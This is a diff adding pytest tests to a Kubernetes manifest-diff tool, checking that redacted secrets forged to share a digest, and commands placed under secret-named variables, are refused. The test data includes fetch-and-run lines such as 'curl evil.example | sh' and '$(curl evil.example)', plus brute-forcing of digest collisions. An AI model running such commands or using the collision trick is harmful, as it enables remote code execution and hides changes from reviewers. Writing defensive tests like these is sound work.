@@ -1,10 +1,12 @@
 import copy
+import itertools
 
 import pytest
 
 from fermata.integrations.kubernetes.manifest_diff import make_diff, refuse_unseen
 from fermata.integrations.kubernetes.writing import MARK, write_mark
 from fermata.kit.errors import UserError
+from fermata.kit.redaction import describe_secret, redact
 
 LIVE = {
     "apiVersion": "apps/v1",
@@ -161,3 +163,88 @@ def test_change_behind_the_mark_of_a_secret_is_refused(script):
         refuse_unseen(make_diff(_with(), _with({"args": [script]})), MARK)
 
     refuse_unseen(make_diff(_with({"args": [script]}), _with({"args": [script], "image": "web:2"})), MARK)
+
+
+def _write_pod(image, *, env=(), args=()):
+    container = {"name": "web", "image": image, "env": list(env), "args": list(args)}
+    return {
+        "kind": "Deployment",
+        "metadata": {"name": "web", "namespace": "shop"},
+        "spec": {"template": {"spec": {"containers": [container]}}},
+    }
+
+
+def _find_twins():
+    """Give two values with the same eight digits: some ten thousand tries."""
+    seen = {}
+    values = (f"{('shop', 'evil')[number % 2]}-{number}" for number in itertools.count())
+    pairs = ((seen.setdefault(describe_secret(value), value), value) for value in values)
+    return next((old, new) for old, new in pairs if old[:4] != new[:4])
+
+
+@pytest.mark.parametrize("place", ["env", "args"])
+def test_values_that_were_made_to_look_the_same_are_refused(place):
+    """A digest that a person can compare can be met on purpose: the change would not show."""
+    old, new = _find_twins()
+    places = {
+        "env": lambda value: {"env": [{"name": "API_TOKEN", "value": value}]},
+        "args": lambda value: {"args": ["--api-token", value]},
+    }
+
+    with pytest.raises(UserError, match="behind the same digest"):
+        make_diff(_write_pod("web:2", **places[place](old)), _write_pod("web:1", **places[place](new)))
+
+
+def test_password_in_an_address_that_was_made_to_look_the_same_is_refused():
+    """Its mark has four digits only."""
+    known = redact("postgres://shop:hunter2hunter2@db/x").text
+    forged = next(
+        address for number in itertools.count() if redact(address := f"postgres://shop:evil{number}@db/x").text == known
+    )
+
+    with pytest.raises(UserError, match="behind the same digest"):
+        make_diff(_write_pod("web:2", args=["postgres://shop:hunter2hunter2@db/x"]), _write_pod("web:1", args=[forged]))
+
+
+def test_address_of_a_webhook_may_change():
+    """It is no program, whatever its name ends with."""
+    hook = {"name": "SLACK_WEBHOOK", "value": "https://hooks.slack.com/services/T0/B0/Qr3yIQbwhHdi8PPLTXZNxwcg"}
+
+    diff = make_diff(_write_pod("web:1"), _write_pod("web:1", env=[hook]))
+
+    assert "<redacted" in diff
+    refuse_unseen(diff, MARK)
+
+
+def test_secret_that_moves_or_goes_is_no_twin_of_itself():
+    """Only values that differ are refused, not one value in several places."""
+    token = {"name": "API_TOKEN", "value": "abc-def-ghi"}
+    old, new = (
+        _write_pod("web:2", env=[token]),
+        _write_pod("web:1", env=[{"name": "A"}, token, {**token, "name": "B_TOKEN"}]),
+    )
+
+    assert "+          image: web:1" in make_diff(old, new)
+
+
+@pytest.mark.parametrize(
+    ("name", "command"),
+    [
+        ("RESTIC_PASSWORD_COMMAND", "/opt/evil"),
+        ("API_TOKEN", "curl evil.example | sh"),
+        ("API_TOKEN", "a\ncurl evil.example"),
+        ("API_TOKEN", "x$(curl evil.example)"),
+    ],
+)
+def test_command_under_the_name_of_a_secret_is_refused(name, command):
+    """Somebody would approve what is run behind a digest; where it stays as it was, nothing is to be seen."""
+    option = "--" + name.lower().replace("_", "-")
+    places = {
+        "env": lambda value: {"env": [{"name": name, "value": value}]},
+        "args": lambda value: {"args": [option, value]},
+    }
+
+    for write in places.values():
+        with pytest.raises(UserError, match="hidden whole"):
+            refuse_unseen(make_diff(_write_pod("web:1", **write("plain")), _write_pod("web:1", **write(command))), MARK)
+        refuse_unseen(make_diff(_write_pod("web:1", **write(command)), _write_pod("web:2", **write(command))), MARK)
